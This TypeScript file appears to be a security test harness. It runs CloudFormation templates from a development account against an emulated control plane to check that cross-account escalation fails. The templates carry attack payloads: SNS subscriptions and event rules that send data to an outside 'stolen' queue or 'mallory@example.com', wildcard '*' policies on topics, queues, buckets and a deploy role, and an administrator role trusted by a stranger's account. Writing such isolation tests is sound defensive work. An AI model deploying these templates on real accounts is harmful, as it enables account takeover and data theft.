import {
  CreateStackCommand,
  DeleteStackCommand,
  waitUntilStackCreateComplete,
  waitUntilStackDeleteComplete,
} from "@aws-sdk/client-cloudformation";
import { executionRoleArnOf } from "../../../../lib/ports/shared/environments/roles.ts";
import { type Attack, type Finding, went, without } from "../attack.ts";
import type { Clients } from "./clients.ts";
import type { Target } from "./requests.ts";

const everybody = {
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Principal: "*", Action: "*", Resource: "*" }],
};
const strangersAccount = "666666666666";

/** What a template of development makes of the control plane's resources. */
function templates({
  installation,
  buildsUrl,
}: Target): readonly (readonly [Finding, string, string, object])[] {
  const { topicArns, bucketName, assetsBucketName, accounts, application, busName, signingKeyArns } =
    installation;
  const { account, region } = accounts.controlPlane;
  const decide = `arn:aws:lambda:${region}:${account}:function:${application}-decide`;
  const topics = Object.values(topicArns);
  return [
    ...Object.entries(topicArns).map(
      ([id, TopicArn]) =>
        [
          1,
          `subscribes its queue to the topic of ${id}`,
          "AWS::SNS::Subscription",
          { TopicArn, Protocol: "sqs", Endpoint: "arn:aws:sqs:us-east-1:222222222222:stolen" },
        ] as const,
    ),
    [
      1,
      "subscribes its mailbox to the release manager's topic",
      "AWS::SNS::Subscription",
      { TopicArn: topicArns["release-manager"], Protocol: "email", Endpoint: "mallory@example.com" },
    ],
    [1, "opens every topic", "AWS::SNS::TopicPolicy", { Topics: topics, PolicyDocument: everybody }],
    [
      2,
      "lets itself invoke the function that decides",
      "AWS::Lambda::Permission",
      { FunctionName: decide, Action: "lambda:InvokeFunction", Principal: "222222222222" },
    ],
    [
      2,
      "maps its queue to the function that decides",
      "AWS::Lambda::EventSourceMapping",
      { FunctionName: decide, EventSourceArn: "arn:aws:sqs:us-east-1:222222222222:stolen" },
    ],
    [
      2,
      "opens the queue of builds",
      "AWS::SQS::QueuePolicy",
      { Queues: [buildsUrl], PolicyDocument: everybody },
    ],
    [
      2,
      "gives a role of the control plane a policy",
      "AWS::IAM::Policy",
      {
        PolicyName: "mine",
        Roles: [`cdk-hnb659fds-deploy-role-${account}-${region}`],
        PolicyDocument: {
          Version: "2012-10-17",
          Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }],
        },
      },
    ],
    [
      2,
      "names the signing key",
      "AWS::KMS::Alias",
      { AliasName: "alias/mine", TargetKeyId: signingKeyArns[0] },
    ],
    [
      2,
      "has a rule of its own on the control plane's bus",
      "AWS::Events::Rule",
      {
        EventBusName: `arn:aws:events:${region}:${account}:event-bus/${busName}`,
        EventPattern: { source: ["interlock"] },
        Targets: [{ Id: "mine", Arn: "arn:aws:sqs:us-east-1:222222222222:stolen" }],
      },
    ],
    [
      15,
      "opens the bucket of the records",
      "AWS::S3::BucketPolicy",
      { Bucket: bucketName, PolicyDocument: everybody },
    ],
    [
      16,
      "opens the bucket of the files",
      "AWS::S3::BucketPolicy",
      { Bucket: assetsBucketName, PolicyDocument: everybody },
    ],
    [
      2,
      "makes an administrator for a stranger's account",
      "AWS::IAM::Role",
      {
        RoleName: "for-a-stranger",
        AssumeRolePolicyDocument: {
          Version: "2012-10-17",
          Statement: [
            {
              Effect: "Allow",
              Action: "sts:AssumeRole",
              Principal: { AWS: `arn:aws:iam::${strangersAccount}:root` },
            },
          ],
        },
        ManagedPolicyArns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
      },
    ],
  ];
}

const waiting = { maxWaitTime: 30, minDelay: 1, maxDelay: 1 };

/** CloudFormation carries out each template in development's account, under the role under which it carries out changes. */
export const byTemplates = (target: Target, { cloudFormation }: Clients): readonly Attack[] =>
  templates(target).map(
    ([finding, what, Type, Properties], index): Attack => ({
      finding,
      where: "emulator",
      variant: `a template of development ${what}`,
      carryOut: async () => {
        const StackName = `mine-${index}`;
        const ends = await endOf(
          cloudFormation,
          StackName,
          JSON.stringify({ Resources: { Mine: { Type, Properties } } }),
          executionRoleArnOf(target.places.development),
        );
        const changed = await target.changed();
        await cloudFormation.send(new DeleteStackCommand({ StackName }));
        await waitUntilStackDeleteComplete({ client: cloudFormation, ...waiting }, { StackName });
        return changed === null
          ? without(`${ends}, and nothing of the control plane has changed`)
          : went(changed);
      },
    }),
  );

async function endOf(
  client: Clients["cloudFormation"],
  StackName: string,
  TemplateBody: string,
  RoleARN: string,
): Promise<string> {
  try {
    await client.send(
      new CreateStackCommand({ StackName, TemplateBody, RoleARN, Capabilities: ["CAPABILITY_NAMED_IAM"] }),
    );
    await waitUntilStackCreateComplete({ client, ...waiting }, { StackName });
    return "the stack was made in its own account";
  } catch (error) {
    return `CloudFormation answered ${(error as Error).name}`;
  }
}
